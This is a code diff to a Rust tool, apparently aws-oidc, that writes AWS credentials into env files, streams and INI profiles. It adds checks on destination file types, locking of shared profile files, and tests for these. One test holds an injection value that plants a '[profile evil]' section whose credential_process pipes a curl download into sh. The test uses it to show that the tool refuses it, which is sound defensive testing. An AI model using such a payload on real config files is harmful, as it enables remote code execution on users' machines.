@@ -239,10 +239,188 @@ pub fn validate(targets: &[Target]) -> Result<(), OutputError> {
 #[derive(Default)]
 pub struct Plan {
     stdout: String,
-    files: Vec<(PathBuf, String)>,
+    files: Vec<FileOut>,
+    /// Profile updates: applied at [`Plan::apply`] to each file as it is then, under its lock.
+    edits: Vec<IniEdit>,
     appends: Vec<(PathBuf, String)>,
     /// What was written where, for the summary line.
     pub written: Vec<String>,
+}
+
+/// One whole file the plan writes.
+struct FileOut {
+    path: PathBuf,
+    content: String,
+    /// A stream output (env, sh, json, the console URL…) takes a device or fifo as its
+    /// destination and writes straight through it; profiles and the token file, which are
+    /// read back later, need a regular file.
+    use_: Use,
+}
+
+/// One profile's keys in one shared INI file: `remove` dropped from `[section]`, then
+/// `set` written into it. (No `Debug`: the values are credentials.)
+struct IniEdit {
+    path: PathBuf,
+    section: String,
+    remove: Vec<&'static str>,
+    set: Vec<(&'static str, String)>,
+}
+
+impl IniEdit {
+    fn apply_to(&self, text: &str) -> Result<String, shell::Unrepresentable> {
+        let text = if self.remove.is_empty() {
+            text.to_string()
+        } else {
+            profile::remove(text, &self.section, &self.remove)
+        };
+        if self.set.is_empty() {
+            return Ok(text);
+        }
+        let pairs: Vec<(&str, &str)> = self.set.iter().map(|(k, v)| (*k, v.as_str())).collect();
+        profile::update(&text, &self.section, &pairs)
+    }
+}
+
+/// How long a run waits for another to finish rewriting a shared profile file.
+const LOCK_WAIT: std::time::Duration = std::time::Duration::from_secs(30);
+
+/// How a destination is used, for [`check_file`].
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Use {
+    Stream,
+    File,
+    TokenFile,
+}
+
+/// Why `path` cannot be written as `use_`, if it cannot: a device or fifo suits a stream
+/// only; a link, a directory, a socket or a block device suit nothing.
+fn refusal(path: &Path, kind: file::DestKind, use_: Use) -> Option<String> {
+    use file::DestKind;
+    match (kind, use_) {
+        (DestKind::Absent | DestKind::Regular, _) | (DestKind::Stream(_), Use::Stream) => None,
+        (DestKind::Symlink, _) => Some(format!(
+            "{} is a symbolic link; refusing to write credentials through it",
+            path.display()
+        )),
+        (DestKind::Stream(_), Use::TokenFile) => Some(format!(
+            "{} is {}, not a file: SDKs re-read the web-identity token file, so it must be a regular file",
+            path.display(),
+            kind.describe()
+        )),
+        (DestKind::Stream(_), Use::File) | (DestKind::Other(_), _) => Some(format!(
+            "{} is {}, not a file",
+            path.display(),
+            kind.describe()
+        )),
+    }
+}
+
+/// Refuses a destination that cannot take `use_` (a path that cannot even be looked at is
+/// left to the write, which reports why).
+fn check_file(path: &Path, use_: Use) -> Result<(), OutputError> {
+    let Ok(kind) = file::dest_kind(path) else {
+        return Ok(());
+    };
+    match refusal(path, kind, use_) {
+        Some(why) => Err(OutputError::Usage(why)),
+        None => Ok(()),
+    }
+}
+
+/// The credentials and config files a profile goes to, checked: each must be a regular file
+/// (or not exist yet), since it is read, merged and replaced.
+fn profile_files(name: &str, env: &BTreeMap<String, String>) -> Result<[PathBuf; 2], OutputError> {
+    let mut out = Vec::new();
+    for (var, default) in [
+        ("AWS_SHARED_CREDENTIALS_FILE", "credentials"),
+        ("AWS_CONFIG_FILE", "config"),
+    ] {
+        let (path, from_var) = match env.get(var) {
+            Some(p) => (PathBuf::from(p), true),
+            None => (home(env)?.join(".aws").join(default), false),
+        };
+        let kind = file::dest_kind(&path).unwrap_or(file::DestKind::Absent);
+        if !matches!(kind, file::DestKind::Absent | file::DestKind::Regular) {
+            let what = match kind {
+                file::DestKind::Symlink => {
+                    "a symbolic link, which credentials are not written through"
+                }
+                k => k.describe(),
+            };
+            return Err(OutputError::Usage(if from_var {
+                format!(
+                    "{var} is {}, not a file ({what}): point it at a file to write profile {name}",
+                    path.display()
+                )
+            } else {
+                format!(
+                    "{} is {what}, not a file: set {var} to a file to write profile {name}",
+                    path.display()
+                )
+            }));
+        }
+        out.push(path);
+    }
+    Ok([out[0].clone(), out[1].clone()])
+}
+
+/// The web-identity token file: as given, else in the runner's temp dir, else the current
+/// directory; always absolute, since SDKs read it from wherever they run.
+pub fn token_file_path(given: Option<PathBuf>, env: &BTreeMap<String, String>) -> PathBuf {
+    let path = given.unwrap_or_else(|| {
+        env.get("RUNNER_TEMP")
+            .map(|d| PathBuf::from(d).join("aws-oidc-web-identity-token"))
+            .unwrap_or_else(|| PathBuf::from("aws-oidc-web-identity-token"))
+    });
+    if path.is_absolute() {
+        path
+    } else {
+        std::env::current_dir()
+            .map(|d| d.join(&path))
+            .unwrap_or(path)
+    }
+}
+
+/// Checks, before anything is fetched, that every destination can take its output: a profile
+/// needs regular files, a stream output a file, a device or a fifo (nothing is written here).
+pub fn check_destinations(
+    targets: &[Target],
+    env: &BTreeMap<String, String>,
+    url: Option<&UrlDest>,
+) -> Result<(), OutputError> {
+    for t in targets {
+        match &t.format {
+            Format::Profile(name) => {
+                profile_files(name, env)?;
+            }
+            Format::WebIdentity => {
+                let path = token_file_path(t.path.clone(), env);
+                check_file(&path, Use::TokenFile)?;
+                if let Some(Format::Profile(name)) = targets
+                    .iter()
+                    .map(|t| &t.format)
+                    .find(|f| matches!(f, Format::Profile(_)))
+                {
+                    // The path goes into the profile as web_identity_token_file.
+                    profile::check(
+                        || format!("web_identity_token_file of profile {name}"),
+                        &path.display().to_string(),
+                    )
+                    .map_err(|e| OutputError::Usage(e.to_string()))?;
+                }
+            }
+            Format::GitHub | Format::GitHubOutputs => {}
+            _ => {
+                if let Some(p) = &t.path {
+                    check_file(p, Use::Stream)?;
+                }
+            }
+        }
+    }
+    if let Some(UrlDest::File(p)) = url {
+        check_file(p, Use::Stream)?;
+    }
+    Ok(())
 }
 
 fn io_err(path: &Path) -> impl FnOnce(std::io::Error) -> OutputError + '_ {
@@ -291,6 +469,7 @@ impl Plan {
             self.files.len(),
             self.appends.len(),
             self.written.len(),
+            self.edits.len(),
         );
         let result = self.render_targets(targets, a, env, opts, gh, &vars);
         if result.is_err() {
@@ -298,6 +477,7 @@ impl Plan {
             self.files.truncate(before.1);
             self.appends.truncate(before.2);
             self.written.truncate(before.3);
+            self.edits.truncate(before.4);
         }
         result
     }
@@ -335,11 +515,15 @@ impl Plan {
                     let w = opts.web_identity.as_ref().ok_or_else(|| {
                         OutputError::Usage("web-identity needs the ID token".into())
                     })?;
+                    check_file(&w.token_file, Use::TokenFile)?;
                     plan.written
                         .push(format!("ID token to {}", w.token_file.display()));
                     // Exactly the token: SDKs send the file's bytes verbatim.
-                    plan.files
-                        .push((w.token_file.clone(), w.token.expose().to_string()));
+                    plan.files.push(FileOut {
+                        path: w.token_file.clone(),
+                        content: w.token.expose().to_string(),
+                        use_: Use::TokenFile,
+                    });
                     continue;
                 }
             };
@@ -349,8 +533,13 @@ impl Plan {
                     plan.written.push(format!("{label} on stdout"));
                 }
                 Some(path) => {
+                    check_file(path, Use::Stream)?;
                     plan.written.push(format!("{label} to {}", path.display()));
-                    plan.files.push((path.clone(), content));
+                    plan.files.push(FileOut {
+                        path: path.clone(),
+                        content,
+                        use_: Use::Stream,
+                    });
                 }
             }
         }
@@ -423,27 +612,7 @@ impl Plan {
         opts: &RenderOptions,
     ) -> Result<(), OutputError> {
         let c = &a.credentials;
-        let credentials_path = match env.get("AWS_SHARED_CREDENTIALS_FILE") {
-            Some(p) => PathBuf::from(p),
-            None => home(env)?.join(".aws").join("credentials"),
-        };
-        let config_path = match env.get("AWS_CONFIG_FILE") {
-            Some(p) => PathBuf::from(p),
-            None => home(env)?.join(".aws").join("config"),
-        };
-        // A file this plan already rewrites is read from the plan, not the disk.
-        let pending = |p: &Path| {
-            self.files
-                .iter()
-                .rev()
-                .find(|(q, _)| q == p)
-                .map(|(_, c)| c.clone())
-        };
-        let read = |p: &Path| match pending(p).map_or_else(|| std::fs::read_to_string(p), Ok) {
-            Ok(s) => Ok(s),
-            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(String::new()),
-            Err(e) => Err(io_err(p)(e)),
-        };
+        let [credentials_path, config_path] = profile_files(name, env)?;
         let expiration = c.expiration_rfc3339();
         let key_names = [
             "aws_access_key_id",
@@ -451,91 +620,86 @@ impl Plan {
             "aws_session_token",
             "aws_credential_expiration",
         ];
-        let existing_creds = read(&credentials_path)?;
         let section = if name == "default" {
             "default".to_string()
         } else {
             format!("profile {name}")
         };
-        let existing_config = read(&config_path)?;
-        let (creds, config) = if let Some(w) = &opts.web_identity {
-            let token_file = w.token_file.display().to_string();
-            (
-                profile::remove(&existing_creds, name, &key_names),
-                profile::update(
-                    &profile::remove(&existing_config, &section, &["credential_process"]),
-                    &section,
-                    &[
-                        ("region", &a.region),
-                        ("role_arn", &w.role_arn),
-                        ("web_identity_token_file", &token_file),
-                        ("role_session_name", &w.session_name),
-                    ],
-                ),
-            )
-        } else if let Some(command) = &opts.refreshable {
-            (
-                profile::remove(&existing_creds, name, &key_names),
-                profile::update(
-                    &profile::remove(
-                        &existing_config,
-                        &section,
-                        &["role_arn", "web_identity_token_file", "role_session_name"],
-                    ),
-                    &section,
-                    &[("region", &a.region), ("credential_process", command)],
-                ),
-            )
-        } else {
-            (
-                profile::update(
-                    &existing_creds,
-                    name,
-                    &[
-                        (key_names[0], &c.access_key_id),
-                        (key_names[1], c.secret_access_key.expose()),
-                        (key_names[2], c.session_token.expose()),
-                        (key_names[3], &expiration),
-                    ],
-                ),
-                profile::update(
-                    &profile::remove(
-                        &existing_config,
-                        &section,
-                        &[
-                            "credential_process",
-                            "role_arn",
+        let region = ("region", a.region.clone());
+        let (creds_remove, creds_set, config_remove, config_set) =
+            if let Some(w) = &opts.web_identity {
+                (
+                    key_names.to_vec(),
+                    vec![],
+                    vec!["credential_process"],
+                    vec![
+                        region,
+                        ("role_arn", w.role_arn.clone()),
+                        (
                             "web_identity_token_file",
-                            "role_session_name",
-                        ],
-                    ),
-                    &section,
-                    &[("region", &a.region)],
-                ),
-            )
-        };
-        if [
-            c.access_key_id.as_str(),
-            c.secret_access_key.expose(),
-            c.session_token.expose(),
-            &a.region,
-        ]
-        .iter()
-        .chain(opts.refreshable.as_deref().iter())
-        .any(|v| v.contains(['\n', '\r', '\0']))
-        {
-            return Err(OutputError::Unrepresentable(shell::Unrepresentable {
-                name: format!("profile {name}"),
-                why: "a value holds a line break, which an INI line cannot carry",
-            }));
+                            w.token_file.display().to_string(),
+                        ),
+                        ("role_session_name", w.session_name.clone()),
+                    ],
+                )
+            } else if let Some(command) = &opts.refreshable {
+                (
+                    key_names.to_vec(),
+                    vec![],
+                    vec!["role_arn", "web_identity_token_file", "role_session_name"],
+                    vec![region, ("credential_process", command.clone())],
+                )
+            } else {
+                (
+                    vec![],
+                    vec![
+                        (key_names[0], c.access_key_id.clone()),
+                        (key_names[1], c.secret_access_key.expose().to_string()),
+                        (key_names[2], c.session_token.expose().to_string()),
+                        (key_names[3], expiration),
+                    ],
+                    vec![
+                        "credential_process",
+                        "role_arn",
+                        "web_identity_token_file",
+                        "role_session_name",
+                    ],
+                    vec![region],
+                )
+            };
+        // The files are read now only to report an unreadable one before anything is written;
+        // the update itself reads them again under their locks.
+        for p in [&credentials_path, &config_path] {
+            match std::fs::read(p) {
+                Err(e) if e.kind() != std::io::ErrorKind::NotFound => return Err(io_err(p)(e)),
+                _ => {}
+            }
         }
         self.written.push(format!(
             "profile {name} to {} and {}",
             credentials_path.display(),
             config_path.display()
         ));
-        self.files.push((credentials_path, creds));
-        self.files.push((config_path, config));
+        let edits = [
+            IniEdit {
+                path: credentials_path,
+                section: name.to_string(),
+                remove: creds_remove,
+                set: creds_set,
+            },
+            IniEdit {
+                path: config_path,
+                section,
+                remove: config_remove,
+                set: config_set,
+            },
+        ];
+        // Every value is checked now, before anything is written (the real update, at
+        // apply, runs the same check).
+        for e in &edits {
+            e.apply_to("")?;
+        }
+        self.edits.extend(edits);
         Ok(())
     }
 
@@ -554,7 +718,12 @@ impl Plan {
                 self.written.push("console URL on stdout".into());
             }
             UrlDest::File(path) => {
-                self.files.push((path.clone(), line));
+                check_file(path, Use::Stream)?;
+                self.files.push(FileOut {
+                    path: path.clone(),
+                    content: line,
+                    use_: Use::Stream,
+                });
                 self.written
                     .push(format!("console URL to {}", path.display()));
             }
@@ -578,23 +747,76 @@ impl Plan {
         Ok(())
     }
 
-    /// Writes: stdout first (GitHub's masks must precede any use), then every
-    /// file staged and, only when all staged, renamed into place; appends last.
+    /// Writes: every file staged first; then stdout (GitHub's masks must precede any use)
+    /// and the devices and fifos named as stream outputs; then, only when all is staged,
+    /// the files renamed into place; appends last.
     pub fn apply(self) -> Result<Vec<String>, OutputError> {
         let mut staged = Vec::new();
+        let mut through = Vec::new();
         // Only the last content of a file counts (it holds every earlier update).
-        let last: Vec<&(PathBuf, String)> = self
+        let last: Vec<&FileOut> = self
             .files
             .iter()
             .enumerate()
-            .filter(|(i, (p, _))| !self.files[i + 1..].iter().any(|(q, _)| q == p))
+            .filter(|(i, f)| !self.files[i + 1..].iter().any(|g| g.path == f.path))
             .map(|(_, f)| f)
             .collect();
-        for (path, content) in last {
+        for f in last {
+            let path = &f.path;
+            let kind = file::dest_kind(path).map_err(io_err(path))?;
+            if let Some(why) = refusal(path, kind, f.use_) {
+                return Err(OutputError::Usage(why));
+            }
+            if matches!(kind, file::DestKind::Stream(_)) {
+                through.push(f);
+                continue;
+            }
             if let Some(dir) = path.parent() {
                 file::ensure_private_dir(dir).map_err(io_err(dir))?;
             }
-            staged.push(file::stage(path, content.as_bytes()).map_err(io_err(path))?);
+            staged.push(file::stage(path, f.content.as_bytes()).map_err(io_err(path))?);
+        }
+        // Shared profile files: locked in path order (two runs writing both files cannot
+        // deadlock), read as they are now, updated, staged; unlocked once renamed.
+        let mut by_path: BTreeMap<&Path, Vec<&IniEdit>> = BTreeMap::new();
+        for e in &self.edits {
+            by_path.entry(&e.path).or_default().push(e);
+        }
+        let mut locks = Vec::new();
+        for (path, edits) in by_path {
+            if self.files.iter().any(|f| f.path == path) {
+                return Err(OutputError::Usage(format!(
+                    "{} is both a profile file and an output; give the output another path",
+                    path.display()
+                )));
+            }
+            if let Some(dir) = path.parent() {
+                file::ensure_private_dir(dir).map_err(io_err(dir))?;
+            }
+            locks.push(file::lock(path, LOCK_WAIT).map_err(io_err(path))?);
+            let kind = file::dest_kind(path).map_err(io_err(path))?;
+            if let Some(why) = refusal(path, kind, Use::File) {
+                return Err(OutputError::Usage(why));
+            }
+            let text = match std::fs::read_to_string(path) {
+                Ok(t) => t,
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+                Err(e) => return Err(io_err(path)(e)),
+            };
+            let mut warned = Vec::new();
+            for e in &edits {
+                let n = profile::sections(&text, &e.section);
+                if n > 1 && !warned.contains(&&e.section) {
+                    warned.push(&e.section);
+                    tracing::warn!(
+                        "{} has {n} [{}] sections: aws-oidc set its keys in the first and removed them from the others; merge them into one (the AWS CLI and boto3 refuse a file with a repeated section)",
+                        path.display(),
+                        e.section
+                    );
+                }
+            }
+            let text = edits.iter().try_fold(text, |t, e| e.apply_to(&t))?;
+            staged.push(file::stage(path, text.as_bytes()).map_err(io_err(path))?);
         }
         if !self.stdout.is_empty() {
             let mut out = std::io::stdout().lock();
@@ -602,10 +824,14 @@ impl Plan {
                 .and_then(|_| out.flush())
                 .map_err(io_err(Path::new("<stdout>")))?;
         }
+        for f in through {
+            file::write_through(&f.path, f.content.as_bytes()).map_err(io_err(&f.path))?;
+        }
         for s in staged {
             let dest = s.dest().to_path_buf();
             s.commit().map_err(io_err(&dest))?;
         }
+        drop(locks);
         for (path, content) in &self.appends {
             file::append(path, content.as_bytes()).map_err(io_err(path))?;
         }
@@ -790,6 +1016,359 @@ mod tests {
         .unwrap();
         assert!(plan.apply().is_err());
         assert!(!good.exists());
+    }
+
+    /// A private character device like /dev/null (never the real one); `None`, with the
+    /// reason printed, where mknod is not allowed (it needs root).
+    #[cfg(unix)]
+    pub(crate) fn private_null(dir: &Path) -> Option<PathBuf> {
+        let p = dir.join("null");
+        let status = std::process::Command::new("mknod")
+            .args(["-m", "666"])
+            .arg(&p)
+            .args(["c", "1", "3"])
+            .status();
+        match status {
+            Ok(s) if s.success() => Some(p),
+            other => {
+                eprintln!(
+                    "skipped: mknod {} failed ({other:?}); it needs root",
+                    p.display()
+                );
+                None
+            }
+        }
+    }
+
+    #[cfg(unix)]
+    pub(crate) fn mkfifo(p: &Path) {
+        let ok = std::process::Command::new("mkfifo")
+            .arg(p)
+            .status()
+            .is_ok_and(|s| s.success());
+        assert!(ok, "mkfifo {}", p.display());
+    }
+
+    #[cfg(unix)]
+    pub(crate) fn is_char_device(p: &Path) -> bool {
+        use std::os::unix::fs::FileTypeExt;
+        std::fs::symlink_metadata(p).is_ok_and(|m| m.file_type().is_char_device())
+    }
+
+    #[cfg(unix)]
+    fn is_fifo(p: &Path) -> bool {
+        use std::os::unix::fs::FileTypeExt;
+        std::fs::symlink_metadata(p).is_ok_and(|m| m.file_type().is_fifo())
+    }
+
+    const STREAM_FORMATS: [&str; 5] = ["env", "sh", "fish", "powershell", "json"];
+
+    fn profile_env(config: &Path, creds: &Path) -> BTreeMap<String, String> {
+        [
+            (
+                "AWS_SHARED_CREDENTIALS_FILE".to_string(),
+                creds.display().to_string(),
+            ),
+            ("AWS_CONFIG_FILE".to_string(), config.display().to_string()),
+        ]
+        .into()
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn stream_outputs_write_through_a_device() {
+        let dir = tempfile::tempdir().unwrap();
+        let Some(null) = private_null(dir.path()) else {
+            return;
+        };
+        for f in STREAM_FORMATS {
+            let targets = vec![format!("{f}={}", null.display()).parse().unwrap()];
+            let plan = Plan::render(
+                &targets,
+                &assumed(),
+                &BTreeMap::new(),
+                &RenderOptions::default(),
+            )
+            .unwrap();
+            plan.apply().unwrap_or_else(|e| panic!("{f}: {e}"));
+            assert!(is_char_device(&null), "{f} replaced the device");
+        }
+        let mut plan = Plan::default();
+        plan.add_console_url(
+            &UrlDest::File(null.clone()),
+            &Secret::new("https://signin.aws.amazon.com/federation?x"),
+            &assumed(),
+            &BTreeMap::new(),
+        )
+        .unwrap();
+        plan.apply().unwrap();
+        assert!(is_char_device(&null), "the console URL replaced the device");
+        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
+    }
+
+    /// `/dev/stderr` and bash's `>(…)` (`/dev/fd/63`) are links to a device or a pipe: written
+    /// through as well. A link to a regular file is still refused.
+    #[cfg(unix)]
+    #[test]
+    fn stream_outputs_write_through_a_link_to_a_device_only() {
+        let dir = tempfile::tempdir().unwrap();
+        let Some(null) = private_null(dir.path()) else {
+            return;
+        };
+        let link = dir.path().join("stderr");
+        std::os::unix::fs::symlink(&null, &link).unwrap();
+        let file = dir.path().join("file");
+        std::fs::write(&file, "mine").unwrap();
+        let file_link = dir.path().join("file-link");
+        std::os::unix::fs::symlink(&file, &file_link).unwrap();
+        let render = |p: &Path| {
+            Plan::render(
+                &[format!("sh={}", p.display()).parse().unwrap()],
+                &assumed(),
+                &BTreeMap::new(),
+                &RenderOptions::default(),
+            )
+            .and_then(|p| p.apply())
+        };
+        render(&link).unwrap();
+        assert!(is_char_device(&null));
+        assert!(
+            std::fs::symlink_metadata(&link)
+                .unwrap()
+                .file_type()
+                .is_symlink()
+        );
+        let msg = render(&file_link)
+            .expect_err("a link to a file")
+            .to_string();
+        assert!(msg.contains("symbolic link"), "{msg}");
+        assert_eq!(std::fs::read_to_string(&file).unwrap(), "mine");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn stream_outputs_write_through_a_fifo() {
+        let dir = tempfile::tempdir().unwrap();
+        for f in STREAM_FORMATS {
+            let fifo = dir.path().join(format!("fifo-{f}"));
+            mkfifo(&fifo);
+            let (tx, rx) = std::sync::mpsc::channel();
+            let reader = fifo.clone();
+            std::thread::spawn(move || {
+                let _ = tx.send(std::fs::read_to_string(reader));
+            });
+            let targets = vec![format!("{f}={}", fifo.display()).parse().unwrap()];
+            let plan = Plan::render(
+                &targets,
+                &assumed(),
+                &BTreeMap::new(),
+                &RenderOptions::default(),
+            )
+            .unwrap();
+            plan.apply().unwrap_or_else(|e| panic!("{f}: {e}"));
+            assert!(is_fifo(&fifo), "{f} replaced the fifo by a file");
+            let got = rx
+                .recv_timeout(std::time::Duration::from_secs(10))
+                .expect("the reader got nothing")
+                .unwrap();
+            assert!(got.contains("ASIAEXAMPLE"), "{f}: {got:?}");
+            assert!(got.contains("FwoGZX=="), "{f}: {got:?}");
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn profile_files_that_are_devices_are_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let Some(null) = private_null(dir.path()) else {
+            return;
+        };
+        let file = dir.path().join("file");
+        let refreshable = RenderOptions {
+            refreshable: Some("aws-oidc credential-process --role-arn x".into()),
+            ..Default::default()
+        };
+        for (config, creds, var) in [
+            (&null, &file, "AWS_CONFIG_FILE"),
+            (&file, &null, "AWS_SHARED_CREDENTIALS_FILE"),
+        ] {
+            for opts in [&RenderOptions::default(), &refreshable] {
+                let err = Plan::render(
+                    &["profile=x".parse().unwrap()],
+                    &assumed(),
+                    &profile_env(config, creds),
+                    opts,
+                )
+                .err()
+                .expect("a device as profile file must be refused");
+                let msg = err.to_string();
+                assert!(matches!(err, OutputError::Usage(_)), "{msg}");
+                assert!(
+                    msg.contains(&format!("{var} is {}, not a file", null.display())),
+                    "{msg}"
+                );
+                assert!(msg.contains("profile x"), "{msg}");
+                assert!(is_char_device(&null));
+                assert!(!file.exists());
+            }
+        }
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn web_identity_token_file_must_be_a_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let Some(null) = private_null(dir.path()) else {
+            return;
+        };
+        let opts = RenderOptions {
+            web_identity: Some(WebIdentity {
+                role_arn: "arn:aws:iam::123456789012:role/deploy".into(),
+                session_name: "s".into(),
+                token_file: null.clone(),
+                token: Secret::new("eyJ.eyJ.sig"),
+            }),
+            ..Default::default()
+        };
+        let targets: Vec<Target> = vec![
+            "web-identity".parse().unwrap(),
+            format!("env={}", dir.path().join("aws.env").display())
+                .parse()
+                .unwrap(),
+        ];
+        let result =
+            Plan::render(&targets, &assumed(), &BTreeMap::new(), &opts).and_then(|p| p.apply());
+        let msg = result.expect_err("a device as token file").to_string();
+        assert!(msg.contains("not a file"), "{msg}");
+        assert!(is_char_device(&null));
+        assert!(!dir.path().join("aws.env").exists());
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn other_special_destinations_are_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let sub = dir.path().join("sub");
+        std::fs::create_dir(&sub).unwrap();
+        let sock = dir.path().join("sock");
+        let _listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
+        for (path, what) in [(&sub, "a directory"), (&sock, "a socket")] {
+            for f in STREAM_FORMATS {
+                let targets = vec![format!("{f}={}", path.display()).parse().unwrap()];
+                let result = Plan::render(
+                    &targets,
+                    &assumed(),
+                    &BTreeMap::new(),
+                    &RenderOptions::default(),
+                )
+                .and_then(|p| p.apply());
+                let msg = result.expect_err("refused").to_string();
+                assert!(
+                    msg.contains(&format!("is {what}, not a file")),
+                    "{f}: {msg}"
+                );
+            }
+        }
+        assert!(sub.is_dir());
+        use std::os::unix::fs::FileTypeExt;
+        assert!(
+            std::fs::symlink_metadata(&sock)
+                .unwrap()
+                .file_type()
+                .is_socket()
+        );
+    }
+
+    /// A line break (or any control character) in a value written into a profile would start a
+    /// key or section of its own: `--output web-identity=PATH` with a newline in PATH must not
+    /// plant `[profile evil]` with a `credential_process` of the attacker's choice.
+    #[test]
+    fn profile_values_with_control_characters_are_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let creds = dir.path().join("credentials");
+        let config = dir.path().join("config");
+        let env = profile_env(&config, &creds);
+        let evil = "\n[profile evil]\ncredential_process = sh -c 'curl x | sh'\n";
+        let web = |role: &str, session: &str, file: &str| RenderOptions {
+            web_identity: Some(WebIdentity {
+                role_arn: role.into(),
+                session_name: session.into(),
+                token_file: PathBuf::from(file),
+                token: Secret::new("eyJ.eyJ.sig"),
+            }),
+            ..Default::default()
+        };
+        let role = "arn:aws:iam::123456789012:role/deploy";
+        let file = dir.path().join("token").display().to_string();
+        let cases = [
+            (
+                "web_identity_token_file",
+                web(role, "s", &format!("{file}{evil}")),
+            ),
+            ("role_arn", web(&format!("{role}{evil}"), "s", &file)),
+            ("role_session_name", web(role, &format!("s{evil}"), &file)),
+            ("role_session_name", web(role, "s\u{1b}[2J", &file)),
+            (
+                "credential_process",
+                RenderOptions {
+                    refreshable: Some(format!("aws-oidc credential-process{evil}")),
+                    ..Default::default()
+                },
+            ),
+        ];
+        for (key, opts) in cases {
+            let mut targets: Vec<Target> = vec!["profile=ci".parse().unwrap()];
+            if opts.web_identity.is_some() {
+                targets.push("web-identity".parse().unwrap());
+            }
+            let result = Plan::render(&targets, &assumed(), &env, &opts).and_then(|p| p.apply());
+            let msg = result.expect_err(key).to_string();
+            assert!(msg.contains("profile ci"), "{key}: {msg}");
+            assert!(msg.contains(key), "{key}: {msg}");
+            assert!(msg.contains("control character"), "{key}: {msg}");
+            assert!(!config.exists(), "{key}: config written");
+            assert!(!creds.exists(), "{key}: credentials written");
+        }
+    }
+
+    /// A BOM before the first section, or a section written twice, must not leave old keys
+    /// that a reader would take over the new ones.
+    #[test]
+    fn profile_with_bom_or_repeated_section_keeps_no_stale_key() {
+        let dir = tempfile::tempdir().unwrap();
+        let creds = dir.path().join("credentials");
+        let config = dir.path().join("config");
+        let env = profile_env(&config, &creds);
+        for (before, ci_headers) in [
+            ("\u{feff}[ci]\naws_session_token = STALE\n", 1),
+            (
+                "[ci]\naws_session_token = STALE\n\n[ci]\naws_session_token = STALE\nmine = 1\n",
+                2,
+            ),
+        ] {
+            std::fs::write(&creds, before).unwrap();
+            Plan::render(
+                &["profile=ci".parse().unwrap()],
+                &assumed(),
+                &env,
+                &RenderOptions::default(),
+            )
+            .unwrap()
+            .apply()
+            .unwrap();
+            let after = std::fs::read_to_string(&creds).unwrap();
+            assert!(!after.contains("STALE"), "{after}");
+            assert_eq!(after.matches("[ci]").count(), ci_headers, "{after}");
+            assert!(after.contains("aws_session_token = FwoGZX==\n"), "{after}");
+            assert_eq!(
+                after.starts_with('\u{feff}'),
+                before.starts_with('\u{feff}'),
+                "{after:?}"
+            );
+            if ci_headers == 2 {
+                assert!(after.ends_with("[ci]\nmine = 1\n"), "{after}");
+            }
+        }
     }
 
     #[test]
